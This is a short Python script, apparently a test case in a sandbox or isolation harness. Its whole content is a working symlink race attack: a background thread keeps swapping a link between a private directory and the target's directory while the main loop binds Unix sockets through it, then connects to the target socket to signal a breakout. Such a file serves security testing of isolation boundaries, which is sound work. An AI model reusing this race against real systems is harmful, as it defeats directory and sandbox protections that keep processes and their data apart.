# What is bound here may be reached: a link on the way to it leads to their directory for a moment.
import os
import socket
import threading
import time

from inside import run

ENOUGH = 5.0  # seconds


def attack(target):
    os.chdir(target.work)
    directory, name = os.path.split(target.name)
    os.mkdir("mine")
    os.symlink("mine", "link")
    over = threading.Event()

    def swap():
        while not over.is_set():
            os.symlink(directory, "new")
            os.rename("new", "link")
            os.unlink("link")
            os.symlink("mine", "link")

    thread = threading.Thread(target=swap)
    thread.start()
    end = time.monotonic() + ENOUGH
    try:
        while True:
            try:
                socket.socket(socket.AF_UNIX).bind(f"{target.work}/link/{name}")
                os.unlink(f"mine/{name}")
            except OSError:
                pass
            with socket.socket(socket.AF_UNIX) as client:
                error = client.connect_ex(target.name)
                if error == 0:
                    client.sendall(b"out")
                    return
            if time.monotonic() > end:
                raise OSError(error, os.strerror(error))
    finally:
        over.set()
        thread.join()


run(attack)
